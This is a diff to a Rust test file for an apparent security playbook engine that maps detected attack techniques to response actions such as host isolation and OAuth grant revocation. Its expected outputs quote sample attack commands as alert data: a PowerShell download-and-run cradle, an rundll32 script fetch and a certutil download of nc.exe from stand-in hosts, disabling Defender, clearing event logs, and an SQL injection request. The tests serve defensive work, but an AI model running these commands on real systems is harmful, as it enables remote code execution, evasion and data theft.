@@ -11,7 +11,7 @@ use serde::Deserialize;
 use serde_json::{Map, Value, json};
 
 use super::alerts::made_for;
-use super::case_fixture::{ALL, DEFAULT, PlaybookCase, PlaybookRun, nothing, record};
+use super::case_fixture::{ALL, DEFAULT, PlaybookCase, PlaybookRun, nothing, on_list, record};
 use crate::playbook::PlaybookSet;
 
 #[derive(Deserialize)]
@@ -123,16 +123,42 @@ fn name_of_a_rule_leans_nowhere_by_itself() {
 }
 
 #[test]
-fn host_without_a_name_is_isolated_too() {
+fn action_without_a_value_of_the_alert_is_left_out() {
     let mut tunnel = pair("T1071.004").attack;
+    tunnel.remove("domain");
+    let of_host = ran("Unusual DNS", &tunnel);
+    insta::assert_snapshot!(of_host.actions().join(" "), @"isolate-host contact-owner preserve-logs");
     tunnel.remove("resource");
     tunnel.remove("target");
-    tunnel.remove("domain");
-    let ran = ran("Unusual DNS", &tunnel);
+    let of_nobody = ran("Unusual DNS", &tunnel);
+    assert!(leans(&of_nobody));
+    insta::assert_snapshot!(of_nobody.actions().join(" "), @"");
+    tunnel.insert("target_ip".to_owned(), json!("10.8.0.14"));
+    let of_address = ran("Unusual DNS", &tunnel).advised();
+    assert!(of_address.contains("Cut 10.8.0.14 off"), "{of_address}");
+
+    let mut link = pair("T1566.002").attack;
+    let advised = ran("Link", &link).advised();
     assert!(
-        leans(&ran) && ran.actions().contains(&"isolate-host"),
-        "{:?}",
-        ran.actions()
+        advised.contains("Remove the mail \"Your mailbox is full\""),
+        "{advised}"
+    );
+    link.remove("mail_subject");
+    link.remove("principal");
+    let advised = ran("Link", &link).advised();
+    assert!(!advised.contains("mail"), "{advised}");
+
+    let mut grant = pair("T1528").attack;
+    assert!(
+        ran("Grant", &grant)
+            .actions()
+            .contains(&"revoke-oauth-grant")
+    );
+    grant.remove("application");
+    assert!(
+        !ran("Grant", &grant)
+            .actions()
+            .contains(&"revoke-oauth-grant")
     );
 }
 
@@ -172,7 +198,7 @@ fn attacks_on_secrets_and_protection_read_well() {
     T1059.001 (true positive): A command that was hidden in base64 fetches code and runs it: IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad.example/a.ps1')
         isolate-host collect-memory contact-owner preserve-logs
     T1027 (leaning malicious): A document program started a shell or a script host: parent winword.exe, command c^m^d /c s^e^t x=c^al^c & p^ow^er^sh^el^l -c "&('{1}{0}{2}'-f'h','w','oami')"
-        isolate-host purge-mail collect-memory contact-owner preserve-logs
+        isolate-host collect-memory contact-owner preserve-logs
     T1562.001 (true positive): Protection of the host is switched off: powershell Set-MpPreference -DisableRealtimeMonitoring $true
         isolate-host restore-protection contact-owner preserve-logs
     T1070.001 (true positive): An event log is cleared: wevtutil.exe cl Security
@@ -224,9 +250,9 @@ fn attacks_over_the_network_read_well() {
     T1190 (leaning malicious): A request carries SQL to the database behind the application: GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20
         block-source-ip preserve-logs contact-owner
     T1530 (leaning malicious): Very many files were read in one go: operation FileDownloaded, count 3480
-        confirm-with-user suspend-sessions
+        confirm-with-user suspend-sessions preserve-logs contact-owner
     T1218.011 (true positive): A script runs under a program of Windows that is there for libraries: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/a")
-        isolate-host collect-memory purge-mail contact-owner preserve-logs
+        isolate-host collect-memory contact-owner preserve-logs
     T1105 (leaning malicious): A file is fetched with a program of the system that is there for something else: certutil.exe -urlcache -split -f http://198.51.100.7/nc.exe C:\ProgramData\n.exe
         isolate-host collect-memory contact-owner preserve-logs
     T1136.001 (leaning malicious): An account is made by hand: net user support$ [redacted:command_password] /add
@@ -286,6 +312,30 @@ fn only_a_test_or_a_change_clears_the_act_itself() {
         verdict("asset", host, "ws-0142"),
         Verdict::BenignTruePositive
     );
+}
+
+#[test]
+fn address_of_our_own_vpn_is_no_second_place() {
+    let mut travel = pair("T1078.004").attack;
+    travel.insert("actor_ip".to_owned(), json!("203.0.113.40"));
+    travel.insert("remote_ip".to_owned(), json!("198.51.100.44"));
+    let judged = |answers| {
+        let ran = PlaybookCase::with(&ALL, answers).run(alert("Sign-in", &travel));
+        (ran.conclusion.verdict, ran.conclusion.leaning)
+    };
+    let vpn = |kind: &str, arguments: &Value| match kind {
+        "watchlist" if arguments["indicator"] == "198.51.100.44" => Ok(on_list("vpn", arguments)),
+        _ => quiet(kind, arguments),
+    };
+    let bad = |kind: &str, arguments: &Value| match kind {
+        "watchlist" if arguments["indicator"] == "198.51.100.44" => {
+            Ok(on_list("malicious", arguments))
+        }
+        _ => quiet(kind, arguments),
+    };
+    assert_eq!(judged(quiet), (Verdict::Inconclusive, Leaning::Malicious));
+    assert_eq!(judged(vpn), (Verdict::Inconclusive, Leaning::None));
+    assert_eq!(judged(bad), (Verdict::TruePositive, Leaning::None));
 }
 
 #[test]
